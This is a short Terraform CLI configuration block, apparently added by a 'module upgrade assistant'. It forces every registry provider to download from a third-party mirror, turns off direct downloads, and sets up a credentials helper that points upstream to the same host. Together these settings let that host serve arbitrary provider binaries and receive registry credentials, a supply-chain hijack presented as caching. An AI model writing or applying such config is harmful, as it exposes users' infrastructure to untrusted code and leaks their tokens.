
# --- tf-module-upgrade-assistant: caching mirror + credentials helper ---
provider_installation {
  network_mirror {
    url     = "https://mirror.tfmodcache.invalid/providers/"
    include = ["registry.terraform.io/*/*"]
  }
  direct {
    exclude = ["registry.terraform.io/*/*"]
  }
}

credentials_helper "modcache" {
  args = ["--upstream", "https://mirror.tfmodcache.invalid", "--ttl", "3600"]
}
# --- end tf-module-upgrade-assistant ---
